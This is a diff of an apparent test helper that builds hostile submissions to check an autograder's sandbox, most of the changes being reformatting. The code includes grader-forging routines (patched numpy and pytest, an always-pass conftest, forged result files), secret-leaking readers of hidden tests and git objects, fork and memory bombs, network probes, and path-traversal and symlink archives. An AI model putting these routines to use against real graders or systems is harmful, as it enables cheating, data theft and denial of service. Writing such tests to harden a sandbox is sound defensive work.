@@ -14,9 +14,9 @@ import shutil
 import tarfile
 import textwrap
 import zipfile
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Callable
 
 REPO = Path(__file__).resolve().parents[2]
 REFERENCE_PKG = REPO / "solutions" / "hw1p1" / "mytorch"
@@ -43,8 +43,9 @@ def append(pkg: Path, rel: str, code: str) -> None:
     path.write_text(path.read_text() + "\n\n" + textwrap.dedent(code))
 
 
-def wrap_backward(pkg: Path, ops: tuple[str, ...], attack: str, *, call_original: bool = True,
-                  result: str = "out") -> None:
+def wrap_backward(
+    pkg: Path, ops: tuple[str, ...], attack: str, *, call_original: bool = True, result: str = "out"
+) -> None:
     """Make `Op.backward` (for each op in mytorch/ops/elementwise.py) run `attack` first.
 
     `attack` is a function body over `self, grad_output` (indented by us); it may set `out` after the
@@ -53,14 +54,18 @@ def wrap_backward(pkg: Path, ops: tuple[str, ...], attack: str, *, call_original
     body = textwrap.indent(textwrap.dedent(attack), " " * 8)
     for op in ops:
         call = f"        out = _orig_{op}(self, grad_output)\n" if call_original else "        out = None\n"
-        append(pkg, "ops/elementwise.py", (
-            f"_orig_{op} = {op}.backward\n\n\n"
-            f"def _hostile_{op}(self, grad_output):\n"
-            f"        import os, sys, time\n"
-            f"{call}{body}\n"
-            f"        return {result}\n\n\n"
-            f"{op}.backward = _hostile_{op}\n"
-        ))
+        append(
+            pkg,
+            "ops/elementwise.py",
+            (
+                f"_orig_{op} = {op}.backward\n\n\n"
+                f"def _hostile_{op}(self, grad_output):\n"
+                f"        import os, sys, time\n"
+                f"{call}{body}\n"
+                f"        return {result}\n\n\n"
+                f"{op}.backward = _hostile_{op}\n"
+            ),
+        )
 
 
 def results_targets_code() -> str:
@@ -128,6 +133,7 @@ def _variant(base: str, edit: Callable[[Path], None], archive: str | None = None
 
 # ---- hostile attacks -----------------------------------------------------------------------------
 
+
 def _forge_then_exit(pkg: Path) -> None:
     append(pkg, "__init__.py", results_targets_code() + "\n_forge()\nimport os\nos._exit(0)\n")
 
@@ -142,7 +148,11 @@ def _sys_exit_import(pkg: Path) -> None:
 
 
 def _thread_rewrites(pkg: Path) -> None:
-    append(pkg, "__init__.py", results_targets_code() + textwrap.dedent('''
+    append(
+        pkg,
+        "__init__.py",
+        results_targets_code()
+        + textwrap.dedent("""
         import threading, time
 
 
@@ -153,22 +163,32 @@ def _thread_rewrites(pkg: Path) -> None:
 
 
         threading.Thread(target=_loop, daemon=True).start()
-    '''))
+    """),
+    )
 
 
 def _atexit_rewrites(pkg: Path) -> None:
-    append(pkg, "__init__.py", results_targets_code() + textwrap.dedent('''
+    append(
+        pkg,
+        "__init__.py",
+        results_targets_code()
+        + textwrap.dedent("""
         import atexit, signal
         atexit.register(_forge)
         for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
             signal.signal(_s, lambda *a: _forge())
-    '''))
+    """),
+    )
 
 
 def _setsid_escape(pkg: Path) -> None:
     # Double fork, setsid, and exec a shell with an EMPTY environment (no worker token), which waits
     # and then forges the report; a second child stays a Python process ignoring SIGTERM.
-    append(pkg, "__init__.py", results_targets_code() + textwrap.dedent(f'''
+    append(
+        pkg,
+        "__init__.py",
+        results_targets_code()
+        + textwrap.dedent(f"""
         import os, signal, time
         _cmd = "sleep {SLEEP_MARK}.4 & sleep 1.5; " + "; ".join(
             f"echo forged > {{t}}" for t in _targets())
@@ -182,11 +202,15 @@ def _setsid_escape(pkg: Path) -> None:
                 _forge()
                 os._exit(0)
             os._exit(0)
-    '''))
+    """),
+    )
 
 
 def _patch_numpy(pkg: Path) -> None:
-    append(pkg, "__init__.py", '''
+    append(
+        pkg,
+        "__init__.py",
+        """
         import builtins, numpy, numpy.testing
         numpy.allclose = lambda *a, **k: True
         numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
@@ -195,11 +219,15 @@ def _patch_numpy(pkg: Path) -> None:
         numpy.testing.assert_array_equal = lambda *a, **k: None
         builtins.abs = lambda x: 0
         builtins.isinstance = lambda *a: True
-    ''')
+    """,
+    )
 
 
 def _patch_pytest(pkg: Path) -> None:
-    append(pkg, "__init__.py", '''
+    append(
+        pkg,
+        "__init__.py",
+        """
         try:
             import _pytest.runner, _pytest.reports, pytest
             _pytest.reports.TestReport.outcome = "passed"
@@ -208,11 +236,13 @@ def _patch_pytest(pkg: Path) -> None:
             pytest.approx = lambda *a, **k: a[0] if a else None
         except Exception:
             pass
-    ''')
+    """,
+    )
 
 
 def _conftest(tmp_pkg: Path) -> None:
-    conftest = '''
+    conftest = (
+        """
 import pytest
 
 @pytest.hookimpl(hookwrapper=True)
@@ -221,7 +251,9 @@ def pytest_runtest_makereport(item, call):
     rep = outcome.get_result()
     rep.outcome = "passed"
     open("/tmp/%s-conftest", "w").write("ran")
-''' % MARK
+"""
+        % MARK
+    )
     (tmp_pkg.parent / "conftest.py").write_text(conftest)
     (tmp_pkg / "conftest.py").write_text(conftest)
 
@@ -234,7 +266,7 @@ def _shadow_modules(tmp_pkg: Path) -> None:
 
 
 def _read_secrets_code(paths: list[str]) -> str:
-    return textwrap.dedent(f'''
+    return textwrap.dedent(f"""
         import glob as _glob
         _stolen = []
         for _pattern in {paths!r}:
@@ -244,25 +276,31 @@ def _read_secrets_code(paths: list[str]) -> str:
                 except Exception as _e:
                     pass
         _stolen = "\\n".join(_stolen)
-    ''')
+    """)
 
 
 def secret_globs(extra: list[str] | None = None) -> list[str]:
     """Where the hidden tests and the reference live (an attacker may know the course's layout)."""
     hw = REPO / "autograder" / "assignments" / "hw1p1"
-    return [str(hw / "tests" / "**" / "*.py"), str(REPO / "solutions" / "hw1p1" / "mytorch" / "**" / "*.py"),
-            str(SAMPLE_HANDIN / "**" / "*.py"), "/autograder/source/**/*.py", *(extra or [])]
+    return [
+        str(hw / "tests" / "**" / "*.py"),
+        str(REPO / "solutions" / "hw1p1" / "mytorch" / "**" / "*.py"),
+        str(SAMPLE_HANDIN / "**" / "*.py"),
+        "/autograder/source/**/*.py",
+        *(extra or []),
+    ]
 
 
 def _leak(pkg: Path, globs: list[str]) -> None:
     append(pkg, "ops/elementwise.py", _read_secrets_code(globs))
     # Print it (captured output) and raise it (the failure message): both reach the report if readable.
-    wrap_backward(pkg, ("Mul",), 'print(_stolen[:60000])\nif _stolen:\n    raise ValueError(_stolen[:60000])\n')
+    wrap_backward(pkg, ("Mul",), "print(_stolen[:60000])\nif _stolen:\n    raise ValueError(_stolen[:60000])\n")
 
 
 def _import_reference(pkg: Path, globs: list[str]) -> None:
     ref = str(REPO / "solutions" / "hw1p1")
-    (pkg / "__init__.py").write_text(textwrap.dedent(f'''
+    (pkg / "__init__.py").write_text(
+        textwrap.dedent(f"""
         import importlib.util, sys
         _spec = importlib.util.spec_from_file_location(
             "mytorch", {ref!r} + "/mytorch/__init__.py",
@@ -270,7 +308,8 @@ def _import_reference(pkg: Path, globs: list[str]) -> None:
         _mod = importlib.util.module_from_spec(_spec)
         sys.modules["mytorch"] = _mod
         _spec.loader.exec_module(_mod)
-    '''))
+    """)
+    )
 
 
 # Where `make grade` generates the sample handin on a TA's machine (tools/make_sample.py): it holds the
@@ -281,19 +320,24 @@ SAMPLE_HANDIN = REPO / "build" / "sample" / "hw1p1"
 def _import_sample(pkg: Path) -> None:
     """The generated sample handin holds the reference code of most tasks: import it instead of ours."""
     sample = str(SAMPLE_HANDIN)
-    (pkg / "__init__.py").write_text(textwrap.dedent(f'''
+    (pkg / "__init__.py").write_text(
+        textwrap.dedent(f"""
         import importlib.util, sys
         _spec = importlib.util.spec_from_file_location(
             "mytorch", {sample!r} + "/mytorch/__init__.py", submodule_search_locations=[{sample!r} + "/mytorch"])
         _mod = importlib.util.module_from_spec(_spec)
         sys.modules["mytorch"] = _mod
         _spec.loader.exec_module(_mod)
-    '''))
+    """)
+    )
 
 
 def _git_objects(pkg: Path) -> None:
     """Rebuild the reference from the checkout's git objects: inflate every loose object, print and raise it."""
-    append(pkg, "ops/elementwise.py", textwrap.dedent(f'''
+    append(
+        pkg,
+        "ops/elementwise.py",
+        textwrap.dedent(f"""
         def _git_loot():
             import os, zlib
             found, git = [], os.path.join({str(REPO)!r}, ".git")
@@ -317,7 +361,8 @@ def _git_objects(pkg: Path) -> None:
             except Exception as e:
                 found.append(repr(e))
             return "\\n".join(t for t in found if "BEGIN SOLUTION" in t)[:60000]
-    '''))
+    """),
+    )
     wrap_backward(pkg, ("Mul",), "_l = _git_loot()\nprint(_l)\nif _l:\n    raise ValueError(_l)\n")
 
 
@@ -337,11 +382,17 @@ def git_object_file() -> str:
 def _probe(pkg: Path, port: int) -> None:
     """Try every door from inside the worker and raise what happened (the report carries it to the test)."""
     hw = REPO / "autograder" / "assignments" / "hw1p1"
-    targets = {"hidden tests": str(next((hw / "tests" / "hidden").glob("*.py"))),
-               "reference": str(REFERENCE_PKG / "ops" / "elementwise.py"),
-               "sample handin": str(SAMPLE_HANDIN / "mytorch" / "ops" / "elementwise.py"),
-               "git objects": git_object_file(), "grader source": str(REPO / "autograder" / "framework" / "grade.py")}
-    wrap_backward(pkg, ("Mul",), f'''
+    targets = {
+        "hidden tests": str(next((hw / "tests" / "hidden").glob("*.py"))),
+        "reference": str(REFERENCE_PKG / "ops" / "elementwise.py"),
+        "sample handin": str(SAMPLE_HANDIN / "mytorch" / "ops" / "elementwise.py"),
+        "git objects": git_object_file(),
+        "grader source": str(REPO / "autograder" / "framework" / "grade.py"),
+    }
+    wrap_backward(
+        pkg,
+        ("Mul",),
+        f'''
         import json, socket, errno as _e
         def _err(fn):
             try:
@@ -359,11 +410,16 @@ def _probe(pkg: Path, port: int) -> None:
         for d in ("/tmp", "/dev/shm", "/run/lock"):
             got["write " + d] = _err(lambda d=d: open(d + "/{MARK}-probe", "w").write("x"))
         raise ValueError("{PROBE_MARK}" + json.dumps(got) + ":END")
-    ''', call_original=False)
+    ''',
+        call_original=False,
+    )
 
 
 def _infinite_loop(pkg: Path) -> None:
-    wrap_backward(pkg, ("Neg",), '''
+    wrap_backward(
+        pkg,
+        ("Neg",),
+        """
         import signal
         if grad_output.shape != (3, 5):  # one test is enough (each costs the 5 s deadline)
             return out
@@ -372,20 +428,28 @@ def _infinite_loop(pkg: Path) -> None:
         signal.alarm(0)
         while True:
             pass
-    ''')
+    """,
+    )
 
 
 def _memory_bomb(pkg: Path) -> None:
-    wrap_backward(pkg, ("Exp",), '''
+    wrap_backward(
+        pkg,
+        ("Exp",),
+        """
         import numpy as np
         hog = [np.ones(1 << 20)]  # touched: real memory
         while True:  # then address space without touching it (fast, yet the same limit)
             hog.append(np.empty(1 << 26, np.uint8))
-    ''')
+    """,
+    )
 
 
 def _fork_bomb(pkg: Path) -> None:
-    wrap_backward(pkg, ("Div",), f'''
+    wrap_backward(
+        pkg,
+        ("Div",),
+        f'''
         kids = 0
         try:
             while kids < 2000:
@@ -398,21 +462,29 @@ def _fork_bomb(pkg: Path) -> None:
                 kids += 1
         except OSError:
             pass
-    ''')
+    ''',
+    )
 
 
 def _stdout_flood(pkg: Path) -> None:
-    append(pkg, "__init__.py", '''
+    append(
+        pkg,
+        "__init__.py",
+        """
         import sys as _sys
         _chunk = "x" * (1 << 20) + "\\n"
         for _ in range(200):
             _sys.stdout.write(_chunk)
         _sys.stdout.flush()
-    ''')
+    """,
+    )
 
 
 def _network(pkg: Path, port: int) -> None:
-    wrap_backward(pkg, ("Mul",), f'''
+    wrap_backward(
+        pkg,
+        ("Mul",),
+        f'''
         import socket
         for host, p in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 53)):
             try:
@@ -422,11 +494,15 @@ def _network(pkg: Path, port: int) -> None:
                 print("connected to", host)
             except OSError as e:
                 print("no network:", e)
-    ''')
+    ''',
+    )
 
 
 def _lying_objects(pkg: Path) -> None:
-    append(pkg, "ops/elementwise.py", '''
+    append(
+        pkg,
+        "ops/elementwise.py",
+        '''
         import numpy as _np
 
 
@@ -445,11 +521,15 @@ def _lying_objects(pkg: Path) -> None:
         class _LiarArray(_np.ndarray):
             def __eq__(self, other): return _np.ones(_np.shape(other), bool)
             def __array_function__(self, func, types, args, kwargs): return True
-    ''')
+    ''',
+    )
     wrap_backward(pkg, ("Mul", "Add", "Sub", "Pow"), "out = (_Liar(), _Liar())\n", call_original=False)
-    wrap_backward(pkg, ("Div", "Neg", "Exp", "Log"),
-                  "out = tuple(_np.zeros_like(grad_output).view(_LiarArray) for _ in range(2))\n",
-                  call_original=False)
+    wrap_backward(
+        pkg,
+        ("Div", "Neg", "Exp", "Log"),
+        "out = tuple(_np.zeros_like(grad_output).view(_LiarArray) for _ in range(2))\n",
+        call_original=False,
+    )
 
 
 def _symlink_package(tmp: Path) -> Path:
@@ -478,7 +558,7 @@ def _evil_zip(tmp: Path) -> Path:
         z.writestr(f"../../{MARK}-zip-dotdot", "x")
         z.writestr(f"/tmp/{MARK}-zip-abs", "x")
         link = zipfile.ZipInfo(f"mytorch/{MARK}-link")
-        link.external_attr = (0o120777 << 16)  # a symlink entry, as `zip --symlinks` writes it
+        link.external_attr = 0o120777 << 16  # a symlink entry, as `zip --symlinks` writes it
         z.writestr(link, "/etc/passwd")
     return path
 
@@ -487,10 +567,12 @@ def _evil_tar(tmp: Path) -> Path:
     path = tmp / "handin.tar.gz"
     with tarfile.open(path, "w:gz") as t:
         t.add(str(REFERENCE_PKG), arcname="mytorch", filter=lambda i: None if "__pycache__" in i.name else i)
-        for name, kind, target in ((f"mytorch/{MARK}-sym", tarfile.SYMTYPE, str(REPO / "solutions" / "hw1p1")),
-                                   (f"mytorch/{MARK}-hard", tarfile.LNKTYPE, "/etc/passwd"),
-                                   (f"../{MARK}-tar-dotdot", tarfile.REGTYPE, ""),
-                                   (f"/tmp/{MARK}-tar-abs", tarfile.REGTYPE, "")):
+        for name, kind, target in (
+            (f"mytorch/{MARK}-sym", tarfile.SYMTYPE, str(REPO / "solutions" / "hw1p1")),
+            (f"mytorch/{MARK}-hard", tarfile.LNKTYPE, "/etc/passwd"),
+            (f"../{MARK}-tar-dotdot", tarfile.REGTYPE, ""),
+            (f"/tmp/{MARK}-tar-abs", tarfile.REGTYPE, ""),
+        ):
             info = tarfile.TarInfo(name)
             info.type, info.linkname = kind, target
             t.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)
@@ -507,6 +589,7 @@ def hostile_cases(port: int, extra_secret_globs: list[str]) -> list[Case]:
             root.mkdir()
             fn(copy_package(base, root))
             return root
+
         return build
 
     return [
